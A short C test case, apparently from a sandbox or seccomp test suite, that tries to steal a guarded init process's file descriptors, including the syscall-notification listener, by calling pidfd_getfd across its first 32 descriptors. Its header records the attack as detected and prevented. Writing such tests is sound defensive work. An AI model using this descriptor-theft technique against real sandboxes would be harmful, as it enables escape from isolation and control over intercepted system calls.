/* Init's descriptors are taken with pidfd_getfd: the listener among them, with which every call could be answered.
 *
 * seen: syscall
 * enforce: prevented
 * works: root
 */
#include "attack.h"

void attack(void) {
    int process = (int)syscall(SYS_pidfd_open, guard(), 0);
    for (int fd = 0; fd < 32; fd++)
        if (syscall(SYS_pidfd_getfd, process, fd, 0) >= 0)
            won();
}
